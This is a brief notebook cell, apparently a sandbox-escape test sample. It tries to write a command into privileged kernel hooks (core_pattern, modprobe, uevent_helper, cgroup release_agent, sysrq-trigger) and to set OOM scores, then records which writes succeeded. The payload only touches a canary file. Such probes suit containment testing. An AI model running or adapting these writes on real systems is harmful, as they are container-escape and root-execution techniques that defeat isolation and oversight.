# ---
# jupyter:
#   sample:
#     says: writes where the kernel would run a program of its own
# ---

# %% before="relu"
import glob, os

got = []
for path in (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/sys/vm/overcommit_memory",
    "/proc/self/oom_score_adj", "/proc/1/oom_score_adj", "/proc/sysrq-trigger", *glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True),
    "/sys/fs/cgroup/cgroup.procs", "/proc/self/uid_map", "/proc/self/loginuid",
):
    try:
        number = os.open(path, os.O_WRONLY)
        os.write(number, b"-1000" if "oom" in path else b"|/bin/touch @WORK@/quince")
        got.append(path)
    except OSError:
        pass
print("got:", got)
